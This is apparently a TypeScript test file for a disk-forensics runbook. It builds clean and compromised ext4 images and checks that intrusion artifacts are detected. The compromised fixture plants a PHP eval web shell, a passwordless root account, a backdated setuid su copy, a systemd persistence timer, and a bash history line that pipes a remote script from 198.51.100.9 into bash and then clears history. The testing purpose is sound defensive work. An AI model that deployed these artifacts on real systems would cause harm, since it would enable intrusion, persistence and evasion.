import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { folderEvidence } from '../../../core/adapters/evidence/folder-evidence';
import { analyse } from '../../../core/analysis/analyse';
import type { Summary } from '../../../core/analysis/summary-schema';
import { ext4Image, mbrDisk, shell, writeTree } from '../../support/disk-image';
import { testWith } from '../../support/sleuth-kit';

/** Disks made with mkfs and debugfs and read by the disk runbook itself. */
const SCRIPT = join(__dirname, '..', '..', '..', 'runbooks', 'scripts', 'analyse-disk.sh');
const NEEDS = ['fls', 'mkfs.ext4', 'debugfs', 'blkid', 'strings'];
const canMount = process.getuid?.() === 0 && existsSync('/dev/loop-control');

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'cordon-set-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** An Amazon Linux-like root: 300 package files of one moment, and what every server has. */
function baseFiles(): Record<string, string> {
  const files: Record<string, string> = {
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\nsync:x:5:0:sync:/sbin:/bin/sync\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n',
    'etc/fstab': '',
    'etc/crontab': 'SHELL=/bin/bash\n17 * * * * root run-parts /etc/cron.hourly\n',
    'etc/cron.d/0hourly': '01 * * * * root run-parts /etc/cron.hourly\n',
    'etc/cron.daily/logrotate': '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n',
    'etc/profile': 'PATH=/usr/bin\n',
    'etc/rc.local': '#!/bin/sh\nexit 0\n',
    'etc/sudoers.d/90-cloud-init-users': 'ec2-user ALL=(ALL) NOPASSWD:ALL\n',
    'etc/systemd/system/app.service': '[Service]\nExecStart=/usr/bin/node /srv/app/index.js\n',
    'home/ec2-user/.ssh/authorized_keys':
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoodgoodgoodgoodgoodgoodgoodgoodgoodgood ops@example.com\n',
    'home/ec2-user/.bash_history': 'ls\nsudo yum update\nsystemctl status app\nsudo vi /etc/crontab\n',
    'usr/bin/x-ls': 'ELF',
    'usr/sbin/x-sshd': 'ELF',
    'var/www/html/index.php': '<?php require __DIR__ . "/app.php"; ?>\n',
    'var/www/html/uploads/photo.jpg': 'jpg',
    'var/log/messages': 'boot\n',
    'var/log/secure': '',
    'var/tmp/': '',
    'tmp/': '',
  };
  for (let number = 0; number < 300; number += 1) files[`usr/lib/pkg/file-${number}`] = 'x';
  return files;
}

async function analysed(disk: string): Promise<Summary> {
  const out = join(folder, 'out');
  const ran = spawnSync('bash', [SCRIPT, out, disk], {
    encoding: 'utf8',
    env: { ...process.env, CORDON_HASH_SECONDS: '0' },
  });
  if (ran.status !== 0) throw new Error(ran.stderr);
  const { summary } = await analyse(folderEvidence({ disk: out }), { origin: 'captured', now: () => new Date(0) });
  return summary;
}

const said = ({ findings }: Summary) =>
  findings.map(({ confidence, detector, title }) => `${confidence} ${detector}: ${title}`);

testWith(NEEDS)('a clean ext4 host gives no high finding and no window', async () => {
  const content = ext4Image(folder, 'root', { files: baseFiles(), label: 'cloud', lastMounted: '/' });
  const disk = join(folder, 'disk.raw');
  mbrDisk(disk, 40, [{ start: 2048, content }]);
  const summary = await analysed(disk);
  expect(said(summary).filter((line) => !line.startsWith('low'))).toEqual([]);
  expect(summary.assessment).toBe('nothing-found');
  expect(summary.window.from).toBeNull();
});

testWith(NEEDS)('a clean host on which somebody worked in one afternoon gives no high finding', async () => {
  const worked = Math.floor(Date.now() / 1000) + 2 * 86_400;
  const files = {
    ...baseFiles(),
    'tmp/x-install': '#!/bin/sh\necho installing\n',
    'tmp/x-check': '#!/bin/sh\n',
    'etc/cron.d/backup': '5 1 * * * root /usr/local/bin/backup\n',
    'usr/local/bin/x-backup': '#!/bin/sh\ntar cf /srv/backup.tar /srv\n',
  };
  const changed = [
    '/tmp/x-install',
    '/tmp/x-check',
    '/etc/cron.d/backup',
    '/usr/local/bin/x-backup',
    '/etc/crontab',
    '/etc/passwd',
    '/home/ec2-user/.ssh/authorized_keys',
  ];
  const debugfs = changed.flatMap((path, at) =>
    ['crtime', 'ctime', 'mtime'].map((field) => `sif ${path} ${field} @${worked + at * 60}`),
  );
  const content = ext4Image(folder, 'root', { files, lastMounted: '/', debugfs });
  const disk = join(folder, 'disk.raw');
  mbrDisk(disk, 40, [{ start: 2048, content }]);
  expect(said(await analysed(disk)).filter((line) => line.startsWith('high'))).toEqual([]);
});

/** What is planted below, and the finding that must name it. */
const PLANTED: readonly (readonly [string, RegExp])[] = [
  ['timer and service', /persistence-change: \/etc\/systemd\/system\/net-sync\.timer \(systemd timer\) was made/],
  [
    'what the service starts',
    /high file-content: \/etc\/systemd\/system\/net-sync\.service starts a program from a temporary place/,
  ],
  ['second account with all rights', /high file-content: \/etc\/passwd has a second account with all rights/],
  ['web shell by content', /high file-content: \/var\/www\/html\/uploads\/thumb\.php runs what a visitor sends/],
  ['web shell by place', /high web-shell: \/var\/www\/html\/uploads\/thumb\.php/],
  ['set-user-id copy', /high setuid-file: \/var\/tmp\/\.cache-x\/su/],
  ['false times', /high timestomp: \/var\/tmp\/\.cache-x\/su was born .* claims to be of 2020-/],
  ['kit', /high tooling-in-tmp: \/var\/tmp\/\.cache-x holds/],
  ['profile', /persistence-change: \/etc\/profile\.d\/lang\.sh/],
  ['commands in a history file', /file-content: \/home\/ec2-user\/\.bash_history holds commands of an intruder/],
];

testWith(NEEDS)('a planted host of another layout is told: units, accounts, web shell, false times', async () => {
  const attack = Math.floor(Date.now() / 1000) + 2 * 86_400;
  const base = baseFiles();
  const files: Record<string, string> = {
    ...base,
    'etc/passwd': `${base['etc/passwd']}svc::0:0::/root:/bin/bash\n`,
    'etc/systemd/system/net-sync.timer': '[Timer]\nOnCalendar=*:0/5\n',
    'etc/systemd/system/net-sync.service': '[Service]\nExecStart=/dev/shm/.net/agent\n',
    'etc/profile.d/lang.sh': 'export LANG=C\n',
    'var/www/html/uploads/thumb.php': '<?php @eval(base64_decode($_POST["p"])); ?>\n',
    'var/tmp/.cache-x/su': 'ELF-copy',
    'var/tmp/.cache-x/x-run.sh': '#!/bin/sh\n/dev/shm/.net/agent &\n',
    'home/ec2-user/.bash_history': 'ls\ncurl http://198.51.100.9/a.sh | bash\nhistory -c\n',
  };
  const planted = Object.keys(files).filter((path) => !(path in base) || files[path] !== base[path]);
  const debugfs = planted.flatMap((path, at) =>
    ['crtime', 'ctime', 'mtime'].map((field) => `sif /${path} ${field} @${attack + at * 20}`),
  );
  debugfs.push('sif /var/tmp/.cache-x/su mode 0104755', 'sif /var/tmp/.cache-x/su mtime @1580000000');
  const content = ext4Image(folder, 'root', { files, lastMounted: '/', debugfs });
  const disk = join(folder, 'disk.raw');
  mbrDisk(disk, 40, [{ start: 2048, content }]);
  const summary = await analysed(disk);
  const lines = said(summary).join('\n');
  const missed = PLANTED.filter(([, pattern]) => !pattern.test(lines)).map(([what]) => what);
  process.stdout.write(
    `\nplanted ext4 host: ${PLANTED.length - missed.length} of ${PLANTED.length} planted items named, ${summary.findings.length} findings\n`,
  );
  expect(missed).toEqual([]);
  expect(Math.abs(Date.parse(summary.window.from ?? '') / 1000 - attack)).toBeLessThan(120);
  expect(summary.indicators.map(({ value }) => value)).toContain('198.51.100.9');
});

(canMount
  ? testWith([...NEEDS, 'mkfs.xfs'])
  : (title: string) => test.skip(`${title} [skipped: needs root and loop devices]`, () => {}))(
  'a clean XFS host, which the Sleuth Kit cannot read, gives no high finding',
  async () => {
    const path = join(folder, 'xfs.raw');
    const tree = join(folder, 'tree');
    writeTree(tree, baseFiles());
    writeFileSync(path, '');
    truncateSync(path, 320 * 1024 * 1024);
    shell('mkfs.xfs', ['-q', path]);
    const loop = spawnSync('losetup', ['-f', '--show', path], { encoding: 'utf8' }).stdout.trim();
    const at = join(folder, 'mnt');
    writeTree(folder, { 'mnt/': '' });
    if (loop === '' || spawnSync('mount', ['-t', 'xfs', loop, at]).status !== 0) {
      process.stdout.write('\nXFS cannot be mounted here: 1 test counted as skipped\n');
      if (loop !== '') spawnSync('losetup', ['-d', loop]);
      return;
    }
    shell('cp', ['-a', `${tree}/.`, at]);
    spawnSync('umount', [at]);
    spawnSync('losetup', ['-d', loop]);
    expect(said(await analysed(path)).filter((line) => line.startsWith('high'))).toEqual([]);
  },
);
